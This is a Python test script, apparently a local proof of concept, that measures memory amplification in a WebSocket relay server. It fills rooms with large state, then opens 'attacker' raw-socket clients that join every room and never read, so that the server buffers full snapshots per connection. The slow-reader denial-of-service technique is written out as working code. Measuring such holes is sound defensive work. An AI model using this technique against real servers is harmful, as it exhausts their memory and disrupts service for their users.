"""Per-connection copies of full snapshots held by clients that do not read.
WRITERS sessions per room fill ROOMS rooms ("FAT0".."FATn") to ~3.9 MB each (under
max_state_bytes, 4 MiB).  Then K attacker sessions each join every room in one
envelope and never read: the server encodes every room's full snapshot into that
connection's WebSocket write buffer (ws.rs send: self.out), a private copy per
connection, and holds it while the write is blocked (up to the 5 s slow-consumer
limit).  Samples relay RSS.  Bounded < 60 s."""
import asyncio, os, sys, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import tr
from tr import pb

ROOMS = int(os.environ.get("ROOMS", "4"))
WRITERS = int(os.environ.get("WRITERS", "8"))
K = int(os.environ.get("K", "20"))
PID = int(os.environ["TR_PID"])

async def writer(room, w):
    ws = await tr.connect()
    await ws.send(tr.env(tr.join(room, 1)))
    await tr.recv_until(ws, lambda m: m.WhichOneof("kind") == "joined")
    seq = 0; refused = 0
    for e in range(64):
        if refused: break
        for half in range(2):
            seq += 1
            wr = pb.EntityWrites()
            if half == 0:
                ent = wr.create.add(id=w * 1000 + e + 1, kind=1)
                for f in range(7): ent.fields.add(id=f + 1, bytes=bytes(1024))
            else:
                u = wr.update.add(id=w * 1000 + e + 1)
                for f in range(7, 14): u.fields.add(id=f + 1, bytes=bytes(1024))
            await ws.send(tr.env(pb.ClientMessage(input=pb.Input(room=room, seq=seq, writes=wr))))
            await asyncio.sleep(7.3 / 64)
            try:
                while True:
                    d = await asyncio.wait_for(ws.recv(), 0.001)
                    for m in tr.decode(d).messages:
                        if m.WhichOneof("kind") == "error" and m.error.code == 12: refused += 1
            except asyncio.TimeoutError:
                pass
    return ws

import socket, base64
def raw_ws_send(payload):
    """A WebSocket client that sends one binary message and never reads again
    (receive buffer 4 KiB)."""
    so = socket.socket()
    so.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    so.connect(("127.0.0.1", int(tr.URL.split(":")[2].split("/")[0])))
    key = base64.b64encode(os.urandom(16)).decode()
    so.sendall((f"GET /ws HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n").encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += so.recv(1)
    assert b" 101 " in head.split(b"\r\n")[0], head
    mask = os.urandom(4)
    n = len(payload)
    hdr = bytes([0x82]) + (bytes([0x80 | n]) if n < 126 else bytes([0x80 | 126]) + n.to_bytes(2, "big"))
    so.sendall(hdr + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
    return so

async def keep_reading(ws, stop):
    while not stop.is_set():
        try: await asyncio.wait_for(ws.recv(), 0.2)
        except asyncio.TimeoutError: pass
        except Exception: return

async def main():
    t0 = time.time()
    rooms = [f"FAT{r}" for r in range(ROOMS)]
    writers = await asyncio.gather(*(writer(r, w) for r in rooms for w in range(WRITERS)))
    stop = asyncio.Event()
    readers = [asyncio.create_task(keep_reading(w, stop)) for w in writers]
    await asyncio.sleep(1)
    base = tr.rss_kib(PID)
    print(f"setup {time.time()-t0:.1f} s, {len(writers)} writers; relay RSS {base} KiB")
    msg = pb.ClientEnvelope()
    for i, r in enumerate(rooms):
        msg.messages.append(pb.ClientMessage(join=pb.JoinRoom(request_id=i + 1, room=r)))
    attackers = [raw_ws_send(msg.SerializeToString()) for _ in range(K)]
    t1 = time.time(); peak = 0
    while time.time() - t1 < 9:
        r = tr.rss_kib(PID); peak = max(peak, r)
        print(f"  t={time.time()-t1:4.1f}s RSS {r} KiB (+{(r-base)//1024} MiB)")
        await asyncio.sleep(1)
    print(f"K={K} non-reading sessions x {ROOMS} rooms: peak RSS +{(peak-base)//1024} MiB "
          f"({(peak-base)/K/1024:.1f} MiB per connection)")
    stop.set()
    for w in writers: w.transport.abort()
    for so in attackers: so.close()

asyncio.run(asyncio.wait_for(main(), 58))
